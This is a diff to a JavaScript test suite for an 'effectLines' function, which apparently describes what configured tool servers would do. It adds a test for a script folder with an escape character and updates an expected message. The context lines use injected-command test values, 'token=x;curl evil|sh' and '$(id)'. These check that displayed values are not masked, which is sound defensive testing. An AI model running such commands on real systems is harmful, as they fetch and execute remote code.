@@ -135,6 +135,12 @@ describe("effectLines", () => {
     ]);
   });
 
+  it("shows folders whose scripts would be tools", async () => {
+    expect(await linesFor(withServer({ scripts: "./a\u001b" }))).toEqual([
+      "run t/s: the scripts in ./a\\u{1b}, which call your tools",
+    ]);
+  });
+
   it("does not hide values by their names", async () => {
     const args = ["-c", "token=x;curl evil|sh", "--password", "$(id)"];
     expect(await linesFor(withServer({ command: "sh", args }))).toEqual([
@@ -148,7 +154,7 @@ describe("effectLines", () => {
       `connect t/s to ["x"]`,
     ]);
     expect(await linesFor(withServer({ disabled: true }))).toEqual([
-      "fail at t/s (disabled), which has neither a command nor a url",
+      "fail at t/s (disabled), which has neither a command, a url nor scripts",
     ]);
   });
 
